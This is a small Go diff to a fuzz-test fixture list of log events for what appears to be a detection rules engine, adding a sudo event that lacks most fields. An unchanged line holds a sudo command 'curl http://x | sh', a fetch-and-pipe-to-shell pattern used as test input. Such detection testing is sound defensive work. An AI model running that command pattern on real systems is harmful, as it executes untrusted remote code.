@@ -14,6 +14,7 @@ var fuzzEvents = []*MapEvent{
 	ev("source=sshd", "type=", "raw=Connection closed"),
 	ev("type=x", "f=x", "g=x", "raw=x"),
 	ev("source=sudo", "command=curl http://x | sh", "f=Abc\xc3\xa9 x", "g=abc é", "raw=sudo: CURL http://X | SH"),
+	ev("source=sudo", "type=sudo", "user=root", "f=", "raw=sudo: root : TTY=pts/0"), // without the fields most rules need
 	ev(),
 }
 
